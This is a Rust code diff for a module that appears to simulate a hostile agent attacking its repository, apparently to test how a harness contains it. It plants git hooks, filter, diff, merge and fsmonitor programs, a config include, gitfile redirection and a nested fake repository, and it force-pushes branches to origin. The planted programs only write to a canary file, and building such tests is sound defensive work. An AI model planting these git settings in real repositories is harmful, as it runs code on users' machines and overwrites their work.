@@ -9,7 +9,7 @@ use std::path::{Path, PathBuf};
 
 use landfall_agents::script::RepoAttack;
 
-use super::git::{asked, commit, git_dir};
+use super::git::{commit_all, git_dir, git_output};
 use super::perform::ScriptFailure;
 use super::voice::PlayerOutput;
 
@@ -42,88 +42,94 @@ const HOOKS: [&str; 24] = [
 ];
 
 /// Attacks.
-pub(super) fn attack(
+pub(super) fn attack_repository(
     voice: &mut PlayerOutput,
     way: RepoAttack,
     canary: Option<&Path>,
 ) -> Result<(), ScriptFailure> {
-    let Some(canary) = canary else { return branches(voice) };
+    let Some(canary) = canary else { return move_branches(voice) };
     match way {
-        RepoAttack::Branches => branches(voice)?,
+        RepoAttack::Branches => move_branches(voice)?,
         RepoAttack::Hooks => {
             let git = git_dir()?;
-            hooks(&git.join("hooks"), canary)?;
+            plant_hooks(&git.join("hooks"), canary)?;
         }
         RepoAttack::Filter => {
-            attributes(voice, "* filter=evil\n")?;
+            commit_attributes(voice, "* filter=evil\n")?;
             let git = git_dir()?;
-            let run = payload(&git, canary)?;
+            let run = plant_payload(&git, canary)?;
             let filter =
                 format!("[filter \"evil\"]\n\tclean = {run} filter\n\tsmudge = {run} filter\n\trequired\n");
-            append(&git.join("config"), &filter)?;
-            append(&git.join("info/attributes"), "* filter=evil\n")?;
+            append_to_file(&git.join("config"), &filter)?;
+            append_to_file(&git.join("info/attributes"), "* filter=evil\n")?;
         }
         RepoAttack::Fsmonitor => {
             let git = git_dir()?;
-            let run = payload(&git, canary)?;
-            append(&git.join("config"), &format!("[core]\n\tfsmonitor = {run}\n"))?;
+            let run = plant_payload(&git, canary)?;
+            append_to_file(&git.join("config"), &format!("[core]\n\tfsmonitor = {run}\n"))?;
         }
         RepoAttack::Gitfile => {
             let git = git_dir()?;
-            let moved = workspace()?.join(".git-of-the-agent");
-            let link = workspace()?.join(".git");
+            let moved = workspace_path()?.join(".git-of-the-agent");
+            let link = workspace_path()?.join(".git");
             fs::rename(&git, &moved).map_err(|source| ScriptFailure::File {
                 what: "move",
                 path: git,
                 source,
             })?;
             // A worktree's `.git` is a file already; it is written over.
-            put(&link, b"gitdir: .git-of-the-agent\n")?;
-            hooks(&moved.join("hooks"), canary)?;
-            programs(&moved.join("config"), &payload(&moved, canary)?)?;
+            plant_file(&link, b"gitdir: .git-of-the-agent\n")?;
+            plant_hooks(&moved.join("hooks"), canary)?;
+            plant_config_programs(&moved.join("config"), &plant_payload(&moved, canary)?)?;
         }
         RepoAttack::NestedBare => {
-            let bare = workspace()?.join("vendor/library");
-            let run = payload(&bare, canary)?;
-            put(&bare.join("HEAD"), b"ref: refs/heads/main\n")?;
-            put(&bare.join("objects/keep"), b"")?;
-            put(&bare.join("refs/keep"), b"")?;
-            put(
+            let bare = workspace_path()?.join("vendor/library");
+            let run = plant_payload(&bare, canary)?;
+            plant_file(&bare.join("HEAD"), b"ref: refs/heads/main\n")?;
+            plant_file(&bare.join("objects/keep"), b"")?;
+            plant_file(&bare.join("refs/keep"), b"")?;
+            plant_file(
                 &bare.join("config"),
                 b"[core]\n\tbare = false\n\tworktree = ..\n\trepositoryformatversion = 0\n",
             )?;
-            programs(&bare.join("config"), &run)?;
-            hooks(&bare.join("hooks"), canary)?;
-            commit(voice, "vendor: a library")?;
+            plant_config_programs(&bare.join("config"), &run)?;
+            plant_hooks(&bare.join("hooks"), canary)?;
+            commit_all(voice, "vendor: a library")?;
         }
         RepoAttack::Alternates => {
             let git = git_dir()?;
-            let run = payload(&git, canary)?;
+            let run = plant_payload(&git, canary)?;
             let other = git.join("alternate.git");
-            put(&other.join("HEAD"), b"ref: refs/heads/main\n")?;
-            put(&other.join("objects/info/alternates"), b"../../objects\n")?;
-            put(&other.join("refs/keep"), b"")?;
-            append(&git.join("objects/info/alternates"), &format!("{}\n", other.join("objects").display()))?;
-            append(&git.join("config"), &format!("[core]\n\talternateRefsCommand = {run}\n"))?;
+            plant_file(&other.join("HEAD"), b"ref: refs/heads/main\n")?;
+            plant_file(&other.join("objects/info/alternates"), b"../../objects\n")?;
+            plant_file(&other.join("refs/keep"), b"")?;
+            append_to_file(
+                &git.join("objects/info/alternates"),
+                &format!("{}\n", other.join("objects").display()),
+            )?;
+            append_to_file(&git.join("config"), &format!("[core]\n\talternateRefsCommand = {run}\n"))?;
         }
         RepoAttack::Attributes => {
-            attributes(voice, "* diff=evil merge=evil\n")?;
+            commit_attributes(voice, "* diff=evil merge=evil\n")?;
             let git = git_dir()?;
-            let run = payload(&git, canary)?;
+            let run = plant_payload(&git, canary)?;
             let drivers = format!(
                 "[diff \"evil\"]\n\tcommand = {run}\n\ttextconv = {run}\n[merge \"evil\"]\n\tname = evil\n\tdriver = {run} %A %O %B\n"
             );
-            append(&git.join("config"), &drivers)?;
-            append(&git.join("info/attributes"), "* diff=evil merge=evil\n")?;
+            append_to_file(&git.join("config"), &drivers)?;
+            append_to_file(&git.join("info/attributes"), "* diff=evil merge=evil\n")?;
         }
         RepoAttack::ConfigInclude => {
             let git = git_dir()?;
-            let run = payload(&git, canary)?;
-            hooks(&git.join("evil-hooks"), canary)?;
+            let run = plant_payload(&git, canary)?;
+            plant_hooks(&git.join("evil-hooks"), canary)?;
             let evil = git.join("evil.config");
-            put(&evil, format!("[core]\n\thooksPath = {}\n", git.join("evil-hooks").display()).as_bytes())?;
-            programs(&evil, &run)?;
-            append(
+            plant_file(
+                &evil,
+                format!("[core]\n\thooksPath = {}\n", git.join("evil-hooks").display()).as_bytes(),
+            )?;
+            plant_config_programs(&evil, &run)?;
+            append_to_file(
                 &git.join("config"),
                 "[include]\n\tpath = evil.config\n[includeIf \"gitdir:/**\"]\n\tpath = evil.config\n",
             )?;
@@ -134,15 +140,15 @@ pub(super) fn attack(
 }
 
 /// Moves every branch within reach to the agent's commit: here, in the origin, and where objects are borrowed from.
-fn branches(voice: &mut PlayerOutput) -> Result<(), ScriptFailure> {
-    let head = asked(&["rev-parse", "HEAD"])?;
-    let here = workspace()?.display().to_string();
-    let names = asked(&["for-each-ref", "--format=%(refname)", "refs/heads", "refs/remotes"])?;
+fn move_branches(voice: &mut PlayerOutput) -> Result<(), ScriptFailure> {
+    let head = git_output(&["rev-parse", "HEAD"])?;
+    let here = workspace_path()?.display().to_string();
+    let names = git_output(&["for-each-ref", "--format=%(refname)", "refs/heads", "refs/remotes"])?;
     let mut tries: Vec<Vec<&str>> = names.lines().map(|name| vec!["update-ref", name, &head]).collect();
     for branch in ["HEAD:refs/heads/main", "HEAD:refs/heads/master"] {
         tries.push(vec!["push", "-q", "--force", "origin", branch]);
     }
-    let origin = asked(&["config", "remote.origin.url"]).unwrap_or_default();
+    let origin = git_output(&["config", "remote.origin.url"]).unwrap_or_default();
     let borrowed = fs::read_to_string(git_dir()?.join("objects/info/alternates")).unwrap_or_default();
     let stores = borrowed.lines().map(|objects| objects.trim_end_matches('/').trim_end_matches("objects"));
     let places: Vec<&str> = [origin.strip_prefix("file://").unwrap_or(&origin)]
@@ -157,7 +163,7 @@ fn branches(voice: &mut PlayerOutput) -> Result<(), ScriptFailure> {
         }
     }
     for words in tries {
-        let outcome = match asked(&words) {
+        let outcome = match git_output(&words) {
             Ok(_) => "done",
             Err(_) => "refused", // what it wanted to know
         };
@@ -167,35 +173,35 @@ fn branches(voice: &mut PlayerOutput) -> Result<(), ScriptFailure> {
 }
 
 /// Commits attributes for every file. They mean nothing until the drivers they name are planted.
-fn attributes(voice: &mut PlayerOutput, text: &str) -> Result<(), ScriptFailure> {
-    append(&workspace()?.join(".gitattributes"), text)?;
-    commit(voice, "attributes for every file")
+fn commit_attributes(voice: &mut PlayerOutput, text: &str) -> Result<(), ScriptFailure> {
+    append_to_file(&workspace_path()?.join(".gitattributes"), text)?;
+    commit_all(voice, "attributes for every file")
 }
 
 /// The program in this folder that writes to the canary, as git's configuration would name it.
-fn payload(folder: &Path, canary: &Path) -> Result<String, ScriptFailure> {
+fn plant_payload(folder: &Path, canary: &Path) -> Result<String, ScriptFailure> {
     let path = folder.join("evil");
-    program(&path, canary)?;
+    plant_program(&path, canary)?;
     let path = path.display().to_string();
     // Some settings go through a shell and some do not, so quotes are used only where they cannot be avoided.
     let plain = path.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"/._-+".contains(&byte));
     Ok(if plain { path } else { format!("\"'{path}'\"") })
 }
 
-fn program(path: &Path, canary: &Path) -> Result<(), ScriptFailure> {
+fn plant_program(path: &Path, canary: &Path) -> Result<(), ScriptFailure> {
     let canary = canary.display();
     let text = format!("#!/bin/sh\necho \"$0 $*\" >> {canary}\n[ \"$1\" = filter ] && exec cat\nexit 0\n");
-    put(path, text.as_bytes())?;
+    plant_file(path, text.as_bytes())?;
     let trouble = |source| ScriptFailure::File { what: "plant", path: path.into(), source };
     fs::set_permissions(path, Permissions::from_mode(0o755)).map_err(trouble)
 }
 
-fn hooks(folder: &Path, canary: &Path) -> Result<(), ScriptFailure> {
-    HOOKS.iter().try_for_each(|name| program(&folder.join(name), canary))
+fn plant_hooks(folder: &Path, canary: &Path) -> Result<(), ScriptFailure> {
+    HOOKS.iter().try_for_each(|name| plant_program(&folder.join(name), canary))
 }
 
 /// Every setting of git that names a program.
-fn programs(config: &Path, run: &str) -> Result<(), ScriptFailure> {
+fn plant_config_programs(config: &Path, run: &str) -> Result<(), ScriptFailure> {
     let text = format!(
         "[core]\n\tfsmonitor = {run}\n\tsshCommand = {run}\n\tpager = {run}\n\teditor = {run}\n\taskPass = {run}\n\
          \tgitProxy = {run}\n\talternateRefsCommand = {run}\n\
@@ -204,26 +210,26 @@ fn programs(config: &Path, run: &str) -> Result<(), ScriptFailure> {
          [uploadpack]\n\tpackObjectsHook = {run}\n[interactive]\n\tdiffFilter = {run}\n\
          [remote \"origin\"]\n\tuploadpack = {run}\n\treceivepack = {run}\n"
     );
-    append(config, &text)
+    append_to_file(config, &text)
 }
 
-fn workspace() -> Result<PathBuf, ScriptFailure> {
+fn workspace_path() -> Result<PathBuf, ScriptFailure> {
     std::env::current_dir().map_err(|source| ScriptFailure::File { what: "find", path: ".".into(), source })
 }
 
-fn put(path: &Path, bytes: &[u8]) -> Result<(), ScriptFailure> {
-    folder_of(path)?;
+fn plant_file(path: &Path, bytes: &[u8]) -> Result<(), ScriptFailure> {
+    create_parent_folder(path)?;
     fs::write(path, bytes).map_err(|source| ScriptFailure::File { what: "plant", path: path.into(), source })
 }
 
-fn append(path: &Path, text: &str) -> Result<(), ScriptFailure> {
-    folder_of(path)?;
+fn append_to_file(path: &Path, text: &str) -> Result<(), ScriptFailure> {
+    create_parent_folder(path)?;
     let open = OpenOptions::new().append(true).create(true).open(path);
     let written = open.and_then(|mut file| file.write_all(text.as_bytes()));
     written.map_err(|source| ScriptFailure::File { what: "plant", path: path.into(), source })
 }
 
-fn folder_of(path: &Path) -> Result<(), ScriptFailure> {
+fn create_parent_folder(path: &Path) -> Result<(), ScriptFailure> {
     let folder = path.parent().unwrap_or(path);
     fs::create_dir_all(folder).map_err(|source| ScriptFailure::File {
         what: "plant",
